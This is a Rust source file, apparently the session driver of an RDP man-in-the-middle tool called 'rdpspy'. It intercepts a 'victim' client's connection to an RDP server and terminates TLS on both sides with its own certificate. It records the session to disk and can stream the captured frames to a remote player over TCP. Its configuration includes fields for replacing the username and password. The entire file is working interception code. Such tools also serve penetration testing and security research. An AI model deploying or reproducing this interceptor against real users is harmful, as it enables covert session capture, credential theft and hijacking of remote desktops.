//! Drives one intercepted session: pumps bytes between the two TCP
//! endpoints and the sans-IO engine, performing the TLS upgrades and sink
//! plumbing the engine asks for.

use std::io;
use std::path::PathBuf;

use anyhow::Context as _;
use rdpspy_mitm::{MitmAction, MitmConfig, RdpMitm, Recorder, RecordingSink, Side};
use rdpspy_mitm::recorder::FileSink;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio_rustls::rustls::ServerName;
use tokio_rustls::{TlsAcceptor, TlsConnector, TlsStream};

use crate::config::Config;

const READ_BUFFER_SIZE: usize = 16 * 1024;

/// A session endpoint, before or after its TLS upgrade.
enum Transport {
    Plain(TcpStream),
    Tls(Box<TlsStream<TcpStream>>),
}

impl Transport {
    async fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self {
            Transport::Plain(stream) => stream.read(buf).await,
            Transport::Tls(stream) => stream.read(buf).await,
        }
    }

    async fn write_all(&mut self, bytes: &[u8]) -> io::Result<()> {
        match self {
            Transport::Plain(stream) => stream.write_all(bytes).await,
            Transport::Tls(stream) => stream.write_all(bytes).await,
        }
    }

    async fn shutdown(&mut self) {
        let result = match self {
            Transport::Plain(stream) => stream.shutdown().await,
            Transport::Tls(stream) => stream.shutdown().await,
        };

        if let Err(e) = result {
            debug!(error = %e, "error while shutting a transport down");
        }
    }
}

/// Streams recording frames to a live player connection.
struct PlayerSink {
    name: String,
    tx: mpsc::UnboundedSender<Vec<u8>>,
}

impl RecordingSink for PlayerSink {
    fn sink_name(&self) -> &str {
        &self.name
    }

    fn write_frame(&mut self, frame: &[u8]) -> io::Result<()> {
        self.tx
            .send(frame.to_vec())
            .map_err(|_| io::Error::new(io::ErrorKind::BrokenPipe, "player disconnected"))
    }
}

async fn connect_player(addr: &str) -> anyhow::Result<PlayerSink> {
    let mut stream = TcpStream::connect(addr).await?;
    let (tx, mut rx) = mpsc::unbounded_channel::<Vec<u8>>();

    tokio::spawn(async move {
        while let Some(frame) = rx.recv().await {
            if let Err(e) = stream.write_all(&frame).await {
                debug!(error = %e, "live player write failed");
                break;
            }
        }
    });

    Ok(PlayerSink {
        name: addr.to_owned(),
        tx,
    })
}

fn recording_path(output_dir: &std::path::Path, session_id: u64) -> PathBuf {
    output_dir.join(format!("rdp_session_{session_id}.rdpspy"))
}

pub async fn run_session(
    config: Config,
    acceptor: Option<TlsAcceptor>,
    connector: TlsConnector,
    front_tcp: TcpStream,
    session_id: u64,
) -> anyhow::Result<()> {
    let back_tcp = TcpStream::connect(config.destination.lookup_addr())
        .await
        .with_context(|| format!("connecting to {}", config.destination.lookup_addr()))?;

    front_tcp.set_nodelay(true).ok();
    back_tcp.set_nodelay(true).ok();

    std::fs::create_dir_all(&config.output_dir).context("creating the output directory")?;

    let mut sinks: Vec<Box<dyn RecordingSink>> = Vec::new();

    let recording = recording_path(&config.output_dir, session_id);
    match FileSink::create(&recording) {
        Ok(sink) => sinks.push(Box::new(sink)),
        Err(e) => warn!(path = %recording.display(), error = %e, "cannot create the recording file"),
    }

    if let Some(player) = &config.player {
        match connect_player(player).await {
            Ok(sink) => sinks.push(Box::new(sink)),
            Err(e) => warn!(%player, error = %e, "cannot reach the live player"),
        }
    }

    let mitm_config = MitmConfig {
        replacement_username: config.replacement_username.clone(),
        replacement_password: config.replacement_password.clone(),
        artifacts_dir: config.artifacts_dir.clone(),
    };

    let mut mitm = RdpMitm::new(mitm_config, Recorder::new(sinks));

    let mut front = Transport::Plain(front_tcp);
    let mut back = Transport::Plain(back_tcp);

    let mut front_buf = vec![0u8; READ_BUFFER_SIZE];
    let mut back_buf = vec![0u8; READ_BUFFER_SIZE];

    'session: loop {
        let actions = tokio::select! {
            read = front.read(&mut front_buf) => match read {
                Ok(0) => mitm.peer_closed(Side::Front),
                Ok(n) => mitm.bytes_from_front(&front_buf[..n]),
                Err(e) => {
                    debug!(error = %e, "read error on the victim connection");
                    mitm.peer_closed(Side::Front)
                }
            },
            read = back.read(&mut back_buf) => match read {
                Ok(0) => mitm.peer_closed(Side::Back),
                Ok(n) => mitm.bytes_from_back(&back_buf[..n]),
                Err(e) => {
                    debug!(error = %e, "read error on the server connection");
                    mitm.peer_closed(Side::Back)
                }
            },
        };

        for action in actions {
            match action {
                MitmAction::WriteFront(bytes) => {
                    if let Err(e) = front.write_all(&bytes).await {
                        debug!(error = %e, "write error on the victim connection");
                        mitm.shutdown();
                        break 'session;
                    }
                }
                MitmAction::WriteBack(bytes) => {
                    if let Err(e) = back.write_all(&bytes).await {
                        debug!(error = %e, "write error on the server connection");
                        mitm.shutdown();
                        break 'session;
                    }
                }
                MitmAction::StartTlsBack => {
                    let Transport::Plain(stream) = back else {
                        anyhow::bail!("server connection already upgraded");
                    };

                    let server_name = ServerName::try_from(config.destination.name())
                        .unwrap_or_else(|_| ServerName::try_from("rdpspy").expect("valid dns name"));

                    let tls = connector
                        .connect(server_name, stream)
                        .await
                        .context("TLS handshake with the server failed")?;
                    back = Transport::Tls(Box::new(TlsStream::Client(tls)));

                    debug!("server connection upgraded to TLS");
                }
                MitmAction::StartTlsFront => {
                    let Some(acceptor) = acceptor.as_ref() else {
                        anyhow::bail!("TLS was negotiated but no certificate was configured (--cert/--key)");
                    };

                    let Transport::Plain(stream) = front else {
                        anyhow::bail!("victim connection already upgraded");
                    };

                    let tls = acceptor
                        .accept(stream)
                        .await
                        .context("TLS handshake with the victim failed")?;
                    front = Transport::Tls(Box::new(TlsStream::Server(tls)));

                    debug!("victim connection upgraded to TLS");
                }
                MitmAction::Close => {
                    mitm.shutdown();
                    break 'session;
                }
            }
        }
    }

    front.shutdown().await;
    back.shutdown().await;

    info!("session ended");
    Ok(())
}
